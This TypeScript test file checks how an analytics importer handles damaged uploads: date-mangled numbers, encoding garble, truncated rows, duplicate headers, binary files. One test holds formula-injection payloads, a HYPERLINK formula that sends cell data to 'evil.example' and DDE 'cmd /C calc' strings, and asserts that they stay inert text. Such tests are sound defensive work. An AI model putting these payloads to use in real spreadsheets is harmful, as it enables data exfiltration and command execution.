// Hostile and damaged text files, read the way an upload is (registry.parseFile): each is refused
// with the file, row, column and a reason a person can act on, or read correctly. Cases already
// covered beside their importer are referenced, not repeated:
// - decimals turned into dates, per importer: youtube-table/-chart/-totals, tiktok-business,
//   tiktok-followers, x-*.test.ts ("damaged copies are refused with row and column");
// - a copy re-saved with semicolons and decimal commas: youtube-totals.test.ts;
// - an unknown layout, an empty file and a binary file, described: registry.test.ts
//   ("an unknown file is refused, saying what it looked like");
// - formula-like text in the Målbar template: maalbar-template.test.ts.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseFile } from '../registry.ts';
import { decodeText, findMojibake } from '../parse/decode.ts';
import { expectImportError, fixture, fixtureText } from '../fixture-files.ts';
import type { InputFile } from '../types.ts';

const utf8 = (name: string, text: string): InputFile => ({ name, bytes: new TextEncoder().encode(text) });
/** Text as UTF-16 LE with a BOM, as Meta writes its account-level files. */
function utf16(name: string, text: string): InputFile {
  const bytes = new Uint8Array(2 + text.length * 2);
  bytes.set([0xff, 0xfe]);
  for (let i = 0; i < text.length; i++) {
    bytes[2 + 2 * i] = text.charCodeAt(i) & 0xff;
    bytes[3 + 2 * i] = text.charCodeAt(i) >> 8;
  }
  return { name, bytes };
}
const replaced = (text: string, from: string, to: string) => {
  assert.ok(text.includes(from), `the fixture holds ${from}`);
  return text.replace(from, to);
};

const TEXT_FIXTURES = [
  'facebook/meta-posts-42col.csv',
  'facebook-legacy/post-level-2017.csv',
  'meta-oigetit/Audience.csv',
  'meta-oigetit/Reach.csv',
  'meta-oigetit/Mar-18-2025_Apr-14-2025_1019826952924933.csv',
  'tiktok-studio/Content.csv',
  'tiktok-studio/Overview.csv',
  'youtube/Table data.csv',
  'x-current/account_analytics_content_2024-11-21_2025-02-19.csv',
  'x-legacy/tweet_activity_metrics_20170401_20170408_en.csv',
];

test('a fixture re-saved by a spreadsheet with a number turned into a date: file, row, column and why', () => {
  const cases: { file: InputFile; row: number; column: string }[] = [
    // X overview, line 3: "Mon, Feb 17, 2025",426,18,… (Likes)
    {
      file: utf8('account_overview_analytics.csv', replaced(fixtureText('x-current/account_overview_analytics.csv'), '"Mon, Feb 17, 2025",426,18,', '"Mon, Feb 17, 2025",426,18.02.2025,')),
      row: 3,
      column: 'Likes',
    },
    // the legacy tweet export, line 2: "29.0","1.0" (engagements)
    {
      file: utf8('tweets.csv', replaced(fixtureText('x-legacy/tweet_activity_metrics_20170401_20170408_en.csv'), '"29.0","1.0"', '"29.0","01.01.2017"')),
      row: 2,
      column: 'engagements',
    },
    // Meta's UTF-16 Reach.csv, line 5: "2025-01-02T01:00:00","14"
    {
      file: utf16('Reach.csv', replaced(fixtureText('meta-oigetit/Reach.csv'), '"2025-01-02T01:00:00","14"', '"2025-01-02T01:00:00","1.mai"')),
      row: 5,
      column: 'Primary',
    },
  ];
  for (const c of cases) {
    const e = expectImportError(() => parseFile(c.file, { lastDay: '2025-04-15' }), { row: c.row, column: c.column, reason: /spreadsheet has probably turned the number into a date/ });
    assert.equal(e.location.file, c.file.name);
  }
});

test('a UTF-8 export saved again after being read as Windows-1252 is refused at its first garbled line', () => {
  const original = fixture('facebook/meta-posts-42col.csv').bytes; // UTF-8 with BOM
  const garble = (bytes: Uint8Array) => new TextEncoder().encode(new TextDecoder('windows-1252').decode(bytes));
  // with its BOM: the BOM itself becomes "ï»¿" on line 1
  let e = expectImportError(() => parseFile({ name: 'posts.csv', bytes: garble(original) }), { row: 1, reason: /garbled \("ï»¿"\).*wrong character encoding/ });
  assert.equal(e.location.file, 'posts.csv');
  // without it: line 33 holds "Data Entry—why", its dash becomes "â€”"
  e = expectImportError(() => parseFile({ name: 'posts.csv', bytes: garble(original.subarray(3)) }), { row: 33, reason: /garbled \("â€”"\)/ });
  // a genuine Windows-1252 file (no UTF-8 in it) is not garbled: it is read
  const cp1252 = new Uint8Array([...new TextEncoder().encode('sep=;\n"Facebook nye f'), 0xf8, ...new TextEncoder().encode('lginger"\n"Date";"Primary"\n"2025-01-01";"5"\n')]);
  assert.equal(decodeText(cp1252)?.encoding, 'windows-1252');
  assert.deepEqual(parseFile({ name: 'Follows.csv', bytes: cp1252 }).observations, [{ metric: 'new_followers', date: '2025-01-01', value: 5 }]);
  // and no real export trips the check
  for (const path of TEXT_FIXTURES) assert.equal(findMojibake(fixtureText(path)), null, path);
});

test('truncated text files: cut mid-row, cut inside a quoted field, cut inside a multi-line caption', () => {
  const content = fixtureText('tiktok-studio/Content.csv'); // every field quoted
  // line 3: "February 28","BUXOM  PLUMPING LIP GLOSS","https://…/video/7546034661705796877","September 3","109",…
  expectImportError(() => parseFile(utf8('Content.csv', content.slice(0, content.indexOf('BUXOM') + 3)), { lastDay: '2026-02-28' }), {
    row: 3,
    reason: /quoted field opened on line 3 is never closed \(the file may be cut off or damaged\)/,
  });
  expectImportError(() => parseFile(utf8('Content.csv', content.slice(0, content.indexOf('"109"'))), { lastDay: '2026-02-28' }), {
    row: 3,
    column: 'Total comments',
    reason: /has 5 of the header's 8 columns \(the file may be cut off or damaged\)/,
  });
  // Meta's captions span lines inside quotes: cut inside one, the row where it opened is named
  const posts = fixtureText('facebook/meta-posts-42col.csv');
  const caption = posts.indexOf('#ProefficientDataEntry #DataAutomation'); // on line 39, inside the caption opened on line 33
  expectImportError(() => parseFile(utf8('posts.csv', posts.slice(0, caption))), { row: 33, reason: /never closed/ });
  // X overview cut in its last row: 14 columns in the header, the cut row has 3
  const overview = fixtureText('x-current/account_overview_analytics.csv').trimEnd();
  const lines = overview.split('\n');
  const cut = `${lines.slice(0, -1).join('\n')}\n${lines.at(-1)!.split(',').slice(0, 5).join(',')}`;
  expectImportError(() => parseFile(utf8('overview.csv', cut)), { row: lines.length, reason: /cut off/ });
});

test('duplicated header names: equal cells are read once, different cells refuse the row', () => {
  // Meta's two `Views` columns agree in the fixture: read once (meta-posts.test.ts)
  const table = 'Content,Video title,Video publish time,Views,Views\nabcDEF12345,T,"Jan 5, 2026",5,5\nxyz_-987654,U,"Jan 6, 2026",7,8\n';
  const e = expectImportError(() => parseFile(utf8('Table data.csv', table)), {
    row: 3,
    column: 'Views',
    reason: /"Views" twice \(columns 4 and 5\), and this row has different values in them \("7" and "8"\): which one is meant cannot be told/,
  });
  assert.equal(e.location.file, 'Table data.csv');
  const agreeing = parseFile(utf8('Table data.csv', table.replace(',7,8', ',7,7')));
  assert.deepEqual(
    agreeing.observations.map((o) => [o.postId, o.value]),
    [['abcDEF12345', 5], ['xyz_-987654', 7]],
  );
  assert.deepEqual(agreeing.columns.ignored, ['Views']);
});

test('formula-like text in a post is kept as plain text, never evaluated', () => {
  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '=1+1'];
  // TikTok Content.csv: the video title is the post's excerpt
  const content = fixtureText('tiktok-studio/Content.csv');
  const lines = content.split('\n');
  const rows = formulas.map((f, i) => `"February 28","${f.replace(/"/g, '""')}","https://www.tiktok.com/@someone/video/75271234567890123${i}","July 16","1","2","3","4"`);
  const r = parseFile(utf8('Content.csv', [lines[0], ...rows].join('\n')), { lastDay: '2026-02-28' });
  assert.deepEqual(
    r.posts.map((p) => p.excerpt),
    formulas,
  );
  // X content export: the post text
  const x = 'Post id,Date,Post text,Post Link,Impressions,Likes\n1892000000000000001,"Tue, Feb 18, 2025","=HYPERLINK(""http://x"",""y"")",https://x.com/a/status/1892000000000000001,5,1\n';
  const xr = parseFile(utf8('x.csv', x));
  assert.equal(xr.posts[0]?.excerpt, '=HYPERLINK("http://x","y")');
  // a formula in a number column is not a number: refused, not computed
  expectImportError(() => parseFile(utf8('x.csv', x.replace(',5,1\n', ',=2+3,1\n'))), { row: 2, column: 'Impressions', reason: /not a number/ });
});

test('empty, blank, header-only and binary files; a file of another kind entirely', () => {
  expectImportError(() => parseFile({ name: 'empty.csv', bytes: new Uint8Array() }), { reason: /^empty\.csv: not a known export: the file is empty$/ });
  expectImportError(() => parseFile(utf8('blank.csv', '\n\r\n  \n')), { reason: /not a known export/ });
  // a header and nothing else: recognised, no values
  const header = fixtureText('youtube/Table data.csv').split('\n')[0]!;
  const r = parseFile(utf8('Table data.csv', `${header}\n`));
  assert.equal(r.observations.length + r.posts.length + r.stats.rows, 0);
  // PNG bytes and a NUL-laden blob
  expectImportError(() => parseFile({ name: 'chart.png', bytes: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 73, 72, 68, 82]) }), {
    reason: /a binary file of 16 bytes, not text/,
  });
  const blob = new Uint8Array(4096).map((_, i) => (i * 7919) % 256);
  expectImportError(() => parseFile({ name: 'blob.bin', bytes: blob }), { reason: /not a known export: a binary file of 4096 bytes/ });
  // a PDF is text to the decoder, and no importer's layout
  expectImportError(() => parseFile(utf8('report.csv', '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n')), { reason: /first lines read: "%PDF-1\.4", "1 0 obj"/ });
});
